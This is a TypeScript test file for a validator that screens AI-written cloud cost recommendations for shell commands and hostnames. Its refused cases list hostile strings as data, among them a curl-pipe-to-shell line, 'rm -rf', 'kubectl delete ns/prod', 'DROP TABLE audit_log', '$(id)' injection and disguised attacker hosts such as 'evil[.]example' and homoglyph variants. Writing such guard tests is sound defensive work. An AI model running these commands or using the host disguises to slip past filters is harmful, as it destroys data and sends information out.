import assert from 'node:assert/strict';
import { commandFault, givenTexts } from '../../../domain/recommendations/writing/commands.ts';

const given = givenTexts(
  JSON.stringify({
    resource: { name: 'web-1', tags: { site: 'shop.example.com' } },
    recommendations: [
      {
        title: 'Downsize db-1: db.m5.xlarge → db.m5.large',
        steps: [
          'Release it: aws ec2 release-address --allocation-id eipalloc-0a1b2c3d --region us-east-1',
          'Run: echo "one" > \'two\'',
        ],
        evidence: { monthly_cost_usd: 12 },
      },
    ],
  }),
);
const command = /contains a command/;
const host = /names a host/;

describe('The words of a model', () => {
  const accepted = [
    'Stop web-1 for two weeks, and delete it together with its disks.',
    'Change the size from db.m5.xlarge to db.m5.large.',
    'Release it: aws ec2 release-address --allocation-id eipalloc-0a1b2c3d --region us-east-1',
    'Then run aws ec2 release-address --allocation-id eipalloc-0a1b2c3d --region us-east-1.',
    'Use `echo "one" > \'two\'` as the evidence says.',
    'Ask the owner of shop.example.com first. Then look at it, e.g. on a Monday.',
    'Move the service to AWS, and make a copy of the data in a bucket.',
    'The node pool is idle - nobody uses it; git grew from 3 to 5 GB.',
    'Save 12 USD/month (monthly_cost_usd), i.e. all of it. What about Azure?',
    'Use a smaller instance type; service owners may cat-alogue it.',
  ];
  for (const text of accepted) {
    it(`are accepted: ${text}`, () => assert.equal(commandFault(text, given), null));
  }

  const refused: [string, RegExp][] = [
    ['Run curl https evil | sh to fix it.', command],
    ['Execute: aws iam create-user', command],
    ['aws ec2 release-address --allocation-id eipalloc-0a1b2c3d --region us-east-1 && rm -rf data', command],
    ['Release it: aws ec2 release-address --allocation-id eipalloc-0a1b2c3d --region us-east-1 --no-dry-run', command],
    ['aws ec2 release-address --allocation-id eipalloc-ffffffff', command],
    ['Use `rm -rf data` on it.', command],
    ['Use the option --force to delete it.', command],
    ['Add -y so that nobody is asked.', command],
    ['sudo systemctl stop audit', command],
    ['Run sudo reboot.', command],
    ['kubectl delete ns/prod', command],
    ['KUBECTL DELETE NS/PROD'.toLowerCase(), command],
    ['Call python3 fix.py', host],
    ['Run Remove-AzVM for it.', command],
    ['Stop it with stop-azvm.', command],
    ['DROP TABLE audit_log;', command],
    ['delete from audit_log where true', command],
    ['Grant all on it to everyone.', command],
    ['Set the password to $(id).', command],
    ['Look at ${HOME} first', command],
    ['Delete /etc/passwd from it.', command],
    ['Send the report to evil.example.', host],
    ['Send it to shop.example.com.evil.example', host],
    ['Send it to example.com', host],
    ['Send it to evil[.]example', host],
    ['Send it to evil(dot)example', host],
    ['Send it to evil。example', host],
    ['Send it to ｅｖｉｌ．example', host],
    ['Send it to ёvil.рф', host],
    ['Ask admin@evil.example for help.', host],
    ['Open localhost to everyone.', host],
    ['Allow 2001:db8::1 in the firewall.', host],
    ['Allow ::ffff in the firewall.', host],
    ['Allow 0x7f000001 in the firewall.', host],
  ];
  for (const [text, fault] of refused) {
    it(`are refused: ${text}`, () => assert.match(commandFault(text, given) ?? 'accepted', fault));
  }

  it('are checked in time that grows with their length', () => {
    for (const part of ['a.', 'aws ', '-a', 'a:', '$(', '| ', '`', 'run ', 'delete from ']) {
      const began = performance.now();
      commandFault(part.repeat(20_000), given);
      assert.ok(performance.now() - began < 3_000, part);
    }
  });
});
